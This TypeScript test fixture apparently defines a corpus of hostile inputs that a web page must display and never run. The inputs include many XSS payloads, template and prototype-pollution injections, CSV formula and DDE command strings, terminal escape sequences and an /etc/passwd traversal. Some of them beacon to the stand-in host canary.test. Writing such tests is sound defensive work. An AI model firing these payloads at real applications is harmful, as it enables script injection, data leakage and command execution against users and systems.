/**
 * Text that services may be sent, or say, and that a page must show and never run. Each calls `ran("<name>")`, which a test puts into every page,
 * or asks `canary.test`, which nobody may.
 */

export interface HostileText {
  readonly name: string;
  readonly text: string;
  /** What runs it in Chromium where a page takes it for HTML: reading it, or following its links. Undefined: harmless there, aimed at others. */
  readonly runs?: 'read' | 'clicked';
}

type Written = readonly [name: string, text: (call: string) => string, runs?: HostileText['runs']];

const LOADS: readonly Written[] = [
  ['script', (call) => `<script>${call}</script>`, 'read'],
  ['script-out', (call) => `"'></title></textarea></style></noscript><script>${call}</script>`, 'read'],
  ['script-case', (call) => `<ScRiPt/x>${call}</sCrIpT\t\n>`, 'read'],
  ['script-nested', (call) => `<scr<script>${call}</script>ipt>`],
  ['script-open', (call) => `<script>${call}//`],
  ['script-data', (call) => `<script src='data:text/javascript,${call}'></script>`, 'read'],
  ['script-foreign', () => `<script src=http://canary.test/x.js></script>`],
  ['script-module', (call) => `<script type=module>${call}</script>`, 'read'],
  ['img', (call) => `<img src=x onerror=${call}>`, 'read'],
  ['img-slash', (call) => `<img/src='x'/onerror=${call}>`, 'read'],
  ['img-quote', (call) => `"><img src=x onerror='${call}'>`, 'read'],
  ['img-comment', (call) => `<!--><img src=x onerror='${call}'>-->`, 'read'],
  ['img-bang', (call) => `<!--a--!><img src=x onerror='${call}'>`, 'read'],
  ['img-cdata', (call) => `<![CDATA[><img src=x onerror='${call}'>]]>`, 'read'],
  ['img-entity', (call) => `<img src=x onerror='${call.replace('(', '&#40;').replace(')', '&#x29;')}'>`, 'read'],
  ['img-newline', (call) => `<img\r\nsrc=x\r\nonerror='${call}'\r\n>`, 'read'],
  ['img-formfeed', (call) => `<img\fsrc=x\fonerror='${call}'>`, 'read'],
  ['img-beacon', () => `<img src=http://canary.test/beacon.png>`],
  ['body', (call) => `<body onload='${call}'>`, 'read'],
  ['iframe-srcdoc', (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, 'read'],
  ['iframe-js', (call) => `<iframe src='javascript:parent.${call}'></iframe>`, 'read'],
  ['object', (call) => `<object data='javascript:${call}'></object>`],
  ['embed', () => `<embed src='http://canary.test/x.swf'>`],
  ['input-focus', (call) => `<input autofocus onfocus='${call}'>`],
  ['details', (call) => `<details open ontoggle='${call}'>x</details>`, 'read'],
  ['video', (call) => `<video><source onerror='${call}'></video>`, 'read'],
  ['audio', (call) => `<audio src=x onerror='${call}'></audio>`, 'read'],
  ['style-onload', (call) => `<style onload='${call}'></style>`, 'read'],
  ['link-css', () => `<link rel=stylesheet href=http://canary.test/x.css>`],
  ['style-url', () => `<style>@import 'http://canary.test/y.css';*{background:url(http://canary.test/z)}</style>`],
  ['meta-refresh', () => `<meta http-equiv=refresh content='0;url=http://canary.test/'>`],
  ['meta-refresh-js', (call) => `<meta http-equiv=refresh content='0;url=javascript:${call}'>`],
  ['base', () => `<base href='http://canary.test/'>`],
  ['form', (call) => `<form action='javascript:${call}'><button>go</button></form>`, 'clicked'],
  ['button-action', (call) => `<form><button formaction='javascript:${call}'>go</button></form>`, 'clicked'],
  ['link-js', (call) => `<a href='javascript:${call}'>more</a>`, 'clicked'],
  ['link-js-case', (call) => `<a href=' JaVa\tScRiPt:${call}'>more</a>`, 'clicked'],
  ['link-js-entity', (call) => `<a href='javascript&colon;${call}'>more</a>`, 'clicked'],
  ['link-js-control', (call) => `<a href='&#1;javascript:${call}'>more</a>`, 'clicked'],
  ['link-data', (call) => `<a href='data:text/html,<script>${call}</script>'>more</a>`],
  ['url-js', (call) => `javascript:${call}`],
  ['url-vb', () => `vbscript:msgbox("ran")`],
  ['svg-onload', (call) => `<svg onload='${call}'>`, 'read'],
  ['svg-script', (call) => `<svg><script>${call.replace('(', '&#40;')}</script></svg>`, 'read'],
  ['svg-animate', (call) => `<svg><animate onbegin='${call}' attributeName=x dur=1s></svg>`, 'read'],
  ['svg-link', (call) => `<svg><a xlink:href='javascript:${call}'><text y=9>x</text></a></svg>`, 'clicked'],
  ['svg-use', () => `<svg><use href='http://canary.test/x.svg#y'></use></svg>`],
  ['svg-foreign', (call) => `<svg><foreignObject><img src=x onerror='${call}'></foreignObject></svg>`, 'read'],
  [
    'math-mutation',
    (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  ],
  ['noscript-mutation', (call) => `<noscript><p title="</noscript><img src=x onerror='${call}'>">`, 'read'],
  ['svg-style-mutation', (call) => `<svg></p><style><a id="</style><img src=1 onerror='${call}'>">`, 'read'],
  [
    'template',
    (call) =>
      `<template><script>${call}</script></template><div><template shadowrootmode=open><img src=x onerror='${call}'></template></div>`,
    'read',
  ],
  ['mustache', (call) => `{{constructor.constructor('${call}')()}}`],
  ['dollar', (call) => '${' + call + '}'],
  ['erb', (call) => `<%= ${call} %><?php ${call} ?>`],
  ['json-out', (call) => `"}]});${call};//`],
  ['script-string', (call) => `</script><script>${call}</script>`, 'read'],
  ['line-separator', (call) => `\u2028${call}\u2029`],
  ['fullwidth', (call) => `＜script＞${call}＜/script＞`],
  ['overlong', (call) => `\u00c0\u00bcscript\u00c0\u00be${call}`],
  ['utf7', (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`],
  ['bidi', (call) => `\u202e>tpircs<${call}\u202c\u2066\u200b\ufeff`],
  ['nul', (call) => `<scr\0ipt>${call}</scr\0ipt><img src=x o\0nerror='${call}'>`],
  ['lone-surrogate', (call) => `\ud800<b>${call}</b>\udfff`],
  ['header-split', (call) => `x\r\nContent-Type: text/html\r\n\r\n<script>${call}</script>`, 'read'],
  ['csv', (call) => `=HYPERLINK("http://canary.test/?"&A1,"${call}")`],
  ['csv-dde', (call) => `+cmd|' /C ${call}'!A0`],
  ['terminal-title', (call) => `\u001b]0;${call}\u0007\u001b[2J\u001b[8m`],
  ['terminal-link', (call) => `\u001b]8;;javascript:${call}\u001b\\more\u001b]8;;\u001b\\\u009b31m`],
  ['path-up', (call) => `../../../../etc/passwd?${call}#%2e%2e%2f`],
  [
    'proto',
    (call) =>
      `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}},"constructor":{"prototype":{"x":1}}}`,
  ],
  ['vnode', (call) => `{"type":"script","props":{"children":"${call}"},"key":null,"ref":null,"__k":null,"__v":1}`],
  ['file-name', (call) => `../"\\\u202egpj.<svg onload=${call}>.exe`, 'read'],
];

export const HOSTILE: readonly HostileText[] = LOADS.map(([name, text, runs]) => ({
  name,
  text: text(`ran(\`${name}\`)`),
  ...(runs !== undefined && { runs }),
}));

/** What a page must show of `name`, whatever it does with the characters around it. */
export function traceOf(name: string): string {
  return `ran(\`${name}\`)`;
}

/** Keys that are somebody else's in JavaScript. */
export const HOSTILE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__html',
  'innerHTML',
];

/** As bytes that header values hold one to a character. */
export function latin1(text: string): string {
  return Buffer.from(text).toString('latin1');
}
